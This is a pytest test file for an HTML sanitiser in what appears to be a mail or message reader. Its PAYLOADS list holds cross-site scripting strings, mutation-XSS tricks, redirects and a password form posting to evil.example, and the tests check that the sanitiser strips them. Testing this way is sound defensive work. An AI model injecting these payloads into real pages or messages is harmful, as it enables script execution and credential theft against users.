"""Hostile HTML in both forms; what must survive; time on hostile sizes."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rapport.kernel.text import sanitise
from rapport.kernel.text.paragraphs import paragraphs
from rapport.kernel.text.tests.danger import dangers

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="/logout">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:e\\xpression(alert(1))">x</p>',
    '<div style="position:fixed;top:0">x</div>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<img src="https://tracker.example/x.gif">',
    '<p id=login class=button name=x>x</p>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", [sanitise.reading_form, sanitise.original_look])
def test_nothing_dangerous_survives(payload: str, form: object) -> None:
    assert callable(form)
    assert dangers(form(payload)) == []


def test_the_judge_sees_what_is_dangerous() -> None:
    harmless_alone = ("tracker", "/logout")
    assert all(dangers(one) for one in PAYLOADS if not any(word in one for word in harmless_alone))


def test_reading_form_keeps_the_content() -> None:
    html = (
        '<p style="color:red">Hi <b>you</b></p><ul><li>one</li></ul><table><tr><td '
        "colspan=2>x</td></tr></table>"
    )
    shown = sanitise.reading_form(html)
    assert "style" not in shown
    assert "<b>you</b>" in shown
    assert "<li>one</li>" in shown
    assert 'colspan="2"' in shown


def test_links_open_elsewhere_and_tell_nothing() -> None:
    shown = sanitise.reading_form('<a href="https://example.org/?a=1&b=2">x</a>')
    assert 'href="https://example.org/?a=1&amp;b=2"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_images_come_from_the_callback_only() -> None:
    sources: list[str] = []

    def image(source: str) -> str | None:
        sources.append(source)
        return "/files/abc" if source.startswith("cid:") else None

    shown = sanitise.reading_form('<img src="cid:1" alt="one"><img src="https://x.example/y.png">', image)
    assert sources == ["cid:1", "https://x.example/y.png"]
    assert 'src="/files/abc"' in shown
    assert "x.example" not in shown


@pytest.mark.parametrize("answer", ["javascript:alert(1)", "//evil.example/x", "data:text/html,x"])
def test_a_dangerous_answer_of_the_callback_is_dropped(answer: str) -> None:
    assert "src" not in sanitise.reading_form('<img src="cid:1">', lambda _: answer)


def test_original_look_keeps_harmless_styles() -> None:
    shown = sanitise.original_look('<p style="color: red; background: url(x); font-size: 12px">x</p>')
    assert 'style="color: red; font-size: 12px"' in shown


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i>", "<table><tr><td>", "&", "&amp;", "<", "<a href=x>", "<p>"]
)
def test_hostile_sizes_take_little_time(piece: str) -> None:
    start = time.process_time()
    sanitise.reading_form(piece * (300_000 // len(piece)))
    assert time.process_time() - start < 3


@given(st.text())
def test_any_text_becomes_harmless(text: str) -> None:
    assert dangers(sanitise.reading_form(text)) == []
    assert dangers(sanitise.original_look(text)) == []
    assert dangers(paragraphs(text)) == []
